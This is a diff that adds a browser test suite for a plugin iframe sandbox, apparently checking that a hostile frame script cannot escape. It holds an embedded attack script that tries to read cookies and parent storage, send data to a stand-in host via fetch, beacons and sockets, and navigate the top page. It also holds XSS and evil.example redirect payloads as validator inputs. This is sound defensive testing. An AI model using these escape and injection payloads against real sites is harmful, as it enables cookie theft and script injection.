@@ -1,0 +1,232 @@
+/** A frame whose script does everything to get out, in a real browser. */
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import type { Browser, Frame, Page } from "playwright-core";
+import type { PackedPlugin } from "../../../manifests/packages/packedPlugin.ts";
+import { frameFaults } from "../../../manifests/packages/frameCheck.ts";
+import { FRAME_FILE_MAX_BYTES } from "../../../manifests/bounds/packages.ts";
+import { checkManifest } from "../../../manifests/rules/readManifest.ts";
+import { fileDigest, packPlugin } from "../../../sites/cli/pluginFolder.ts";
+import { launch } from "../../browser/chromium.ts";
+import type { FrameSite, Stranger } from "../../browser/frameSite.ts";
+import { aStranger, frameSite, serve } from "../../browser/frameSite.ts";
+
+const FOLDER = join(import.meta.dirname, "../../fixtures/plugins/lantern-board");
+const BOARD = packPlugin(FOLDER);
+
+/** The board with another script, as its author may have signed it. */
+function boardWith(script: string): PackedPlugin {
+  const files = { ...BOARD.files, "frame/tasks.js": script };
+  const pins = Object.fromEntries(Object.entries(files).map(([path, text]) => [path, fileDigest(text)]));
+  const manifest = { ...BOARD.manifest, files: pins };
+  const manifestText = JSON.stringify(manifest);
+  return { manifest, manifestText, digest: fileDigest(manifestText), files };
+}
+
+/** Each tries one way out and tells what came of it: what it got, or the name of what was thrown. */
+const attacks = (stranger: string, site: string): string => `
+const told = {};
+const attempt = async (name, way) => {
+  try { told[name] = String(await Promise.race([way(), soon(1500).then(() => "nothing")])); } catch (error) { told[name] = "threw " + error.name; }
+};
+const soon = (ms = 300) => new Promise((done) => setTimeout(done, ms));
+const { fields } = await drawbridge.ready;
+const own = document.scripts[document.scripts.length - 1].textContent;
+await attempt("document of the page", () => parent.document.title);
+await attempt("storage of the page", () => parent.localStorage.length);
+await attempt("cookie", () => document.cookie);
+await attempt("storage", () => localStorage.length);
+await attempt("database", () => new Promise((done, fail) => { const o = indexedDB.open("a"); o.onsuccess = done; o.onerror = () => fail(o.error); }));
+await attempt("fetch", () => fetch("${stranger}/fetch"));
+await attempt("fetch without cors", () => fetch("${stranger}/nocors", { mode: "no-cors" }));
+await attempt("fetch of the site", () => fetch("${site}/api/site", { credentials: "include" }));
+await attempt("beacon", () => navigator.sendBeacon("${stranger}/beacon", "x") && soon());
+await attempt("socket", () => new Promise((done, fail) => { const s = new WebSocket("${stranger.replace("http", "ws")}/ws"); s.onopen = () => done("open"); s.onerror = () => fail(new Error("no")); }));
+await attempt("events", () => new Promise((done, fail) => { const s = new EventSource("${stranger}/events"); s.onopen = () => done("open"); s.onerror = () => fail(new Error("no")); }));
+await attempt("picture", () => new Promise((done, fail) => { const i = new Image(); i.onload = () => done("loaded"); i.onerror = () => fail(new Error("no")); i.src = "${stranger}/picture.png"; }));
+await attempt("style sheet", () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "${stranger}/a.css"; document.head.append(l); return soon(); });
+await attempt("prefetch", () => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = "${stranger}/prefetch"; document.head.append(l); return soon(); });
+await attempt("font", () => new FontFace("x", "url(${stranger}/a.woff2)").load());
+await attempt("worker", () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => done("ran"); w.onerror = () => fail(new Error("no")); setTimeout(() => fail(new Error("no")), 500); }));
+await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
+await attempt("code from text", () => (0, eval)("1"));
+await attempt("function from text", () => new Function("return 1")());
+await attempt("markup from text", () => { document.body.innerHTML = "<b>x</b>"; });
+await attempt("frame from text", () => { const f = document.createElement("iframe"); f.srcdoc = "<" + "script type=module>" + own + "<" + "/script>"; document.body.append(f); return soon(); });
+await attempt("frame of an address", () => { const f = document.createElement("iframe"); f.src = "${stranger}/inner"; document.body.append(f); return soon(); });
+await attempt("frame of a blob", () => { const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<h1>x"], { type: "text/html" })); document.body.append(f); return soon().then(() => f.contentWindow.document.body.textContent); });
+await attempt("realm of an empty frame", () => { const f = document.createElement("iframe"); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; });
+await attempt("peer connection", () => typeof RTCPeerConnection);
+await attempt("form", () => { const f = document.createElement("form"); f.action = "${stranger}/form"; document.body.append(f); f.submit(); return soon(); });
+await attempt("window", () => open("${stranger}/window"));
+await attempt("top", () => { top.location = "${stranger}/top"; return soon(); });
+await attempt("link", () => { const a = document.createElement("a"); a.href = "${stranger}/link"; a.target = "_top"; document.body.append(a); a.click(); return soon(); });
+await attempt("code in the page", () => { parent.location = "javascript:document.title='taken'"; return soon(); });
+for (const height of [Infinity, -1, NaN, 1e9, "1e9", [9], { a: 9 }]) parent.postMessage({ height, ready: true, fields: "<b>x</b>" }, "*");
+const out = document.createElement("output");
+out.textContent = JSON.stringify(told);
+document.body.append(out);
+`;
+
+const FAILED = /^(threw \w+|nothing)$/;
+
+/** What each way out may come to; the rest has to fail. */
+const HARMLESS: Readonly<Record<string, string>> = {
+  beacon: "undefined",
+  "style sheet": "undefined",
+  prefetch: "undefined",
+  "frame of an address": "undefined",
+  "peer connection": "undefined",
+  form: "undefined",
+  window: "null",
+  link: "undefined",
+};
+
+let browser: Browser;
+let stranger: Stranger;
+let site: FrameSite;
+let page: Page;
+let frame: Frame;
+let told: Readonly<Record<string, string>>;
+
+async function frameIn(shown: Page): Promise<Frame> {
+  const found = await (await shown.waitForSelector("[data-frame] iframe", { state: "attached" })).contentFrame();
+  if (!found) throw new Error("there is no frame");
+  return found;
+}
+
+beforeAll(async () => {
+  [browser, stranger] = await Promise.all([launch(), aStranger()]);
+  // The site is not known before it listens, so the script names its own address by its parent's.
+  site = await frameSite(boardWith(attacks(stranger.origin, "http://127.0.0.1")), "lantern.board/tasks", {
+    title: "T",
+  });
+  const context = await browser.newContext();
+  await context.addCookies([{ name: "login", value: "secret", url: site.origin }]);
+  page = await context.newPage();
+  await page.goto(site.origin);
+  frame = await frameIn(page);
+  await frame.waitForSelector("output", { timeout: 30_000, state: "attached" });
+  told = JSON.parse((await frame.textContent("output")) ?? "") as Readonly<Record<string, string>>;
+});
+
+afterAll(async () => {
+  await browser?.close();
+  stranger?.stop();
+  site?.stop();
+});
+
+describe("a frame that wants out", () => {
+  test("gets nothing, whichever way it tries", () => {
+    expect(Object.keys(told).length).toBeGreaterThan(27);
+    const got = Object.entries(told).filter(([way, what]) => !FAILED.test(what) && HARMLESS[way] !== what);
+    expect(got).toEqual([]);
+  });
+
+  test("reaches no other machine", () => {
+    expect(stranger.asked).toEqual([]);
+  });
+
+  test("leaves the page where and what it was", async () => {
+    expect(page.url()).toBe(`${site.origin}/`);
+    expect(await page.title()).not.toBe("taken");
+    expect(page.context().pages()).toHaveLength(1);
+    expect(await page.locator("b").count()).toBe(0);
+    const height = await page.locator("iframe").evaluate((element) => element.getBoundingClientRect().height);
+    expect(height).toBeLessThanOrEqual(4000);
+  });
+
+  test("has no origin, in the page and opened by itself", async () => {
+    expect(await frame.evaluate(() => self.origin)).toBe("null");
+    const alone = await page.context().newPage();
+    await alone.goto(`${site.origin}/_assets/frame/lantern.board/tasks`);
+    expect(await alone.evaluate(() => self.origin)).toBe("null");
+    await expect(alone.evaluate(() => document.cookie)).rejects.toThrow(/sandbox/);
+    await alone.close();
+  });
+});
+
+test("a frame that goes elsewhere by itself is stopped by the page around it", async () => {
+  const leaving = await frameSite(
+    boardWith(`await drawbridge.ready; location.href = "${stranger.origin}/leaving?with=fields";`),
+    "lantern.board/tasks",
+    { title: "T" },
+  );
+  const shown = await browser.newPage();
+  const refused = shown.waitForEvent("console", (message) => /frame-src/.test(message.text()));
+  await shown.goto(leaving.origin);
+  await refused;
+  expect(stranger.asked).toEqual([]);
+  await shown.close();
+  leaving.stop();
+});
+
+test("no page of another origin shows a frame", async () => {
+  const other = await serve((_request, response) =>
+    response
+      .setHeader("Content-Type", "text/html")
+      .end(`<!doctype html><iframe src="${site.origin}/_assets/frame/lantern.board/tasks"></iframe>`),
+  );
+  const shown = await browser.newPage();
+  const refused = shown.waitForEvent("console", (message) => /frame-ancestors|X-Frame-Options/.test(message.text()));
+  await shown.goto(other.origin);
+  expect((await refused).text()).toContain("frame");
+  await shown.close();
+  other.server.close();
+});
+
+describe("a file of a frame is refused:", () => {
+  test.each([
+    ["frameScript", 'document.title = "</script><script>alert(1)</script>";'],
+    ["frameScript", "const a = '<!-- <script>';"],
+    ["frameScript", 'import "./other.js";'],
+    ["frameScript", 'await import("https://evil.example/a.js");'],
+    ["frameScript", "const a = ;"],
+    ["frameScript", "const a = 1;\r\n"],
+    ["frameStyle", "a { color: red } </style><script>alert(1)</script>"],
+    ["frameHtml", "<script>alert(1)</script>"],
+    ["frameHtml", '<p onclick="alert(1)">a</p>'],
+    ["frameHtml", '<iframe src="https://evil.example/"></iframe>'],
+    ["frameHtml", "<p>{{ fields.title }}</p>"],
+    ["frameHtml", '<base href="https://evil.example/">'],
+    ["frameHtml", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
+  ] as const)("%s %s", (use, text) => {
+    expect(frameFaults(use, text)).not.toEqual([]);
+  });
+
+  test.each([
+    [FRAME_FILE_MAX_BYTES - 1, 0],
+    [FRAME_FILE_MAX_BYTES, 0],
+    [FRAME_FILE_MAX_BYTES + 1, 1],
+  ])("with %i bytes it has %i faults", (bytes, faults) => {
+    expect(frameFaults("frameStyle", "a{}".padEnd(bytes))).toHaveLength(faults);
+  });
+});
+
+describe("a manifest with frames", () => {
+  const refusalOf = (change: object): string[] => {
+    const checked = checkManifest({ ...BOARD.manifest, ...change });
+    return checked.ok ? [] : checked.error.map(({ pointer }) => pointer);
+  };
+
+  test("asks for them, and for nothing that only code may have", () => {
+    expect(refusalOf({})).toEqual([]);
+    expect(refusalOf({ capabilities: undefined })).toEqual(["/capabilities/browser"]);
+    expect(refusalOf({ capabilities: { browser: { hosts: [] }, storage: { maxBytes: 1, maxKeys: 1 } } })).toEqual([
+      "/capabilities",
+    ]);
+    expect(refusalOf({ capabilities: { browser: { hosts: ["127.0.0.1"] } } })).toEqual([
+      "/capabilities/browser/hosts/0",
+    ]);
+    expect(refusalOf({ contributes: { ...BOARD.manifest.contributes, frames: [] } })).toEqual([
+      "/contributes/sections/0/frame",
+      "/capabilities/browser",
+    ]);
+  });
+
+  test("has no script that its digests do not pin", () => {
+    expect(readFileSync(join(FOLDER, "frame/tasks.js"), "utf8")).toBe(BOARD.files["frame/tasks.js"]);
+    expect(BOARD.manifest.files?.["frame/tasks.js"]).toMatch(/^sha256-/);
+  });
+});
